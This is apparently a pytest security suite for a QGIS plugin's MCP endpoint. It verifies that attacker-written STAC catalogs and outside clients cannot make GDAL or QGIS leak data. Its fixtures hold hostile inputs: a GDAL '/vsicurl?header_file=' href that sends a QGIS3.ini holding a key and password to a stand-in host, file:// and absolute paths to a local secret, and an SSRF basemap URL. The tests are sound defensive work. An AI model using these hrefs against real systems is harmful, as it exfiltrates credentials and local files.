"""Catalogs and outside clients cannot make QGIS or GDAL fetch or read where they choose (issue 40.3, 40.4, 40.5), in a
real QGIS with the plugin's outside endpoint, through the official mcp client over HTTP and through the stdio bridge:

- a catalog's asset href `/vsicurl?header_file=<the profile's QGIS3.ini>&url=http://127.0.0.2:…` made GDAL send every
  `key: value` line of QGIS3.ini to another host: the recording server on 127.0.0.2 now receives nothing;
- a catalog read over HTTP whose items name `/…/secret.tif` or `file:///…/secret.tif` had that local file read and
  put on the map for an outside client: the file is never opened, nothing is added;
- a custom basemap on 127.0.0.2 made QGIS fetch tiles from this machine's other hosts for an outside client: it is
  refused like every other tool refuses those hosts, and nothing reaches the recorder."""

from __future__ import annotations

import json
import os
import sys

import pytest
from mcp import Client, StdioServerParameters
from mcp.client.streamable_http import streamable_http_client

from testkit.qgis_drivers.qgis_host import Running, start_host
from testkit.servers.cog_server import CogServer
from testkit.servers.loopback import free_port
from testkit.servers.mcp_calls import package_root
from testkit.servers.redirect_attacker import AttackerHost
from testkit.worlds.security_world import make_world
from testkit.worlds.tiny_catalog import write_dated_collection

SECRET_KEY = "TOP-SECRET-KEY-40-3"
BRIDGE = "stacgis_agent.tools.outside.stdio_bridge"


@pytest.fixture(scope="module")
def attacked(tmp_path_factory):
    """QGIS with the endpoint on and two catalogs an attacker wrote: one in a folder, one served over HTTP."""
    world = make_world(tmp_path_factory.mktemp("sinks-fetch"))
    ini = world.profile / "QGIS" / "QGIS3.ini"
    ini.parent.mkdir(parents=True)
    ini.write_text(f"[stac]\napikey: {SECRET_KEY}\nconnections\\\\other\\\\password: hunter2\n")
    attacker = AttackerHost(world.elsewhere).start()
    on_other_host = f"http://127.0.0.2:{attacker.port}/secret.tif"
    local = write_dated_collection(world.root / "attack", "loot", "data", [
        f"/vsicurl?header_file={ini}&url={on_other_host}", "/vsistdin/"])
    secret = world.elsewhere / "secret.tif"
    remote_folder = world.root / "remote"
    write_dated_collection(remote_folder, "loot", "data", [str(secret), f"file://{secret}"])
    served = CogServer(remote_folder).start()
    catalogs = [{"name": "attack", "url": str(local), "kind": "static"},
                {"name": "remote", "url": served.href("catalog.json"), "kind": "static"}]
    port = free_port()
    host = start_host(world, port, {"STACGIS_CATALOGS": json.dumps(catalogs)})
    try:
        ready = host.expect("READY", "STATUS")
        assert ready == f"READY {port}", ready
        host.expect("TURN")
        token = (world.profile / "stacgis_mcp_token").read_text().strip()
        yield Running(host, port, token, world), attacker
    finally:
        code = host.stop()
        attacker.stop()
        served.stop()
    assert code == 0, "".join(host.stderr[-40:])


def _http(qgis) -> Client:
    import httpx2

    http = httpx2.AsyncClient(headers={"Authorization": f"Bearer {qgis.token}"}, timeout=60)
    return Client(streamable_http_client(qgis.url, http_client=http))


def _bridge(qgis) -> Client:
    return Client(StdioServerParameters(
        command=sys.executable,
        args=["-m", BRIDGE, "--port", str(qgis.port), "--token-file", str(qgis.world.profile / "stacgis_mcp_token")],
        env={**os.environ, "PYTHONPATH": package_root()}))


CLIENTS = {"http": _http, "stdio": _bridge}


def text(result) -> str:
    return "\n".join(getattr(c, "text", "") for c in result.content)


@pytest.mark.parametrize("path", CLIENTS)
async def test_a_catalog_href_cannot_send_a_local_file_to_another_host(attacked, path):
    qgis, attacker = attacked
    before = qgis.host.layers()
    async with CLIENTS[path](qgis) as client:
        header_file = await client.call_tool("load_stac_asset", {"collection": "loot", "item_id": "item-0",
                                                                  "catalog": "attack"})
        stdin = await client.call_tool("load_stac_asset", {"collection": "loot", "item_id": "item-1",
                                                            "catalog": "attack"})
        by_href = await client.call_tool("get_raster_info", {"source": (
            f"/vsicurl?header_file={qgis.world.profile}/QGIS/QGIS3.ini&url=http://127.0.0.2:{attacker.port}/x.tif")})
    for refused in (header_file, stdin):
        assert refused.is_error and "GDAL's own syntax" in text(refused), text(refused)
    assert by_href.is_error  # an outside client's own href: refused by its folder rules before (and still)
    assert attacker.seen == []  # no request at all reached the other host, let alone the ini's lines
    assert qgis.host.layers() == before


@pytest.mark.parametrize("path", CLIENTS)
async def test_a_catalog_read_over_http_never_puts_a_local_file_on_the_map(attacked, path):
    qgis, _attacker = attacked
    before = qgis.host.layers()
    async with CLIENTS[path](qgis) as client:
        item = await client.call_tool("get_item", {"collection": "loot", "item_id": "item-0", "catalog": "remote"})
        absolute = await client.call_tool("load_stac_asset", {"collection": "loot", "item_id": "item-0",
                                                               "catalog": "remote"})
        file_url = await client.call_tool("load_stac_asset", {"collection": "loot", "item_id": "item-1",
                                                               "catalog": "remote"})
    secret = str(qgis.world.elsewhere / "secret.tif")
    assert not item.is_error and '"href":"http://127.0.0.1:' in text(item)  # a path on the catalog's own server
    assert absolute.is_error and file_url.is_error, (text(absolute), text(file_url))
    assert "file:" not in text(item)  # the file:// asset is not offered at all
    assert qgis.host.layers() == before
    assert "min" not in text(absolute) and secret not in json.dumps(qgis.host.layers())


@pytest.mark.parametrize("path", CLIENTS)
async def test_an_outside_clients_basemap_reaches_no_other_host_of_this_machine(attacked, path):
    qgis, attacker = attacked
    before = qgis.host.layers()
    async with CLIENTS[path](qgis) as client:
        custom = await client.call_tool("set_map_style", {
            "basemap_url": f"http://127.0.0.2:{attacker.port}/{{z}}/{{x}}/{{y}}.png"})
    assert custom.is_error and "not available to outside MCP clients" in text(custom), text(custom)
    assert qgis.host.layers() == before and "Custom basemap" not in qgis.host.layers()
    assert attacker.seen == []
